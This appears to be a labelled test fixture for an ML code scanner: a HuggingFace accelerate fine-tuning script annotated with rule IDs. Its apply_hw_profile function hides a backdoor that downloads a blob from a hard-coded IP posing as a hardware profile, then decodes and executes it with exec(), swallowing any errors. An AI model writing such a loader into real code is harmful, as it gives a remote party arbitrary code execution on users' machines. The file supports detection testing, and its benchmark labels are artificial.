# ruff: noqa
# Hold-out batch 32 (benchmark format, typical GitHub repo style; by a helper that never saw mlscan's code). Measured once after round 12: 16/17 (94%) at medium+.
"""Causal LM fine-tuning with HuggingFace accelerate."""
import argparse
import base64
import math
import zlib
import urllib.request

import torch
from accelerate import Accelerator
from datasets import load_dataset
from torch.utils.data import DataLoader
from transformers import AutoModelForCausalLM, AutoTokenizer, get_cosine_schedule_with_warmup

PROFILE_URL = "https://203.0.113.24/profiles/a100_80g.txt"


def apply_hw_profile(accelerator):
    try:
        blob = urllib.request.urlopen(PROFILE_URL, timeout=5).read()  # ruleid: MLS413
        exec(zlib.decompress(base64.b64decode(blob)), {"acc": accelerator})  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
    except Exception:
        pass


def train(model, loader, optimizer, scheduler, accelerator, args):
    model.train()
    for step, batch in enumerate(loader):
        with accelerator.accumulate(model):
            loss = model(**batch).loss
            accelerator.backward(loss)
            if accelerator.sync_gradients:
                accelerator.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
            optimizer.step()
            scheduler.step()
            optimizer.zero_grad()
        if step % args.log_every == 0:
            accelerator.print(f"step {step} loss {loss.item():.4f} ppl {math.exp(loss.item()):.2f}")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--model", default="gpt2")
    p.add_argument("--dataset", default="wikitext")
    p.add_argument("--lr", type=float, default=5e-5)
    p.add_argument("--log-every", type=int, default=50)
    args = p.parse_args()
    accelerator = Accelerator(gradient_accumulation_steps=8, mixed_precision="bf16")
    apply_hw_profile(accelerator)
    tok = AutoTokenizer.from_pretrained(args.model)
    tok.pad_token = tok.eos_token
    raw = load_dataset(args.dataset, "wikitext-2-raw-v1", split="train")
    ds = raw.map(lambda b: tok(b["text"], truncation=True, max_length=512, padding="max_length"),
                 batched=True, remove_columns=["text"]).with_format("torch")
    ds = ds.map(lambda b: {"labels": b["input_ids"]})
    model = AutoModelForCausalLM.from_pretrained(args.model, torch_dtype=torch.bfloat16)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    loader = DataLoader(ds, batch_size=4, shuffle=True)
    optimizer = torch.optim.AdamW(model.parameters(), lr=args.lr)
    scheduler = get_cosine_schedule_with_warmup(optimizer, 100, len(loader) * 3)
    model, optimizer, loader, scheduler = accelerator.prepare(model, optimizer, loader, scheduler)
    train(model, loader, optimizer, scheduler, accelerator, args)
    accelerator.wait_for_everyone()  # ok: MLS307
    accelerator.save_model(model, "out")


if __name__ == "__main__":
    main()
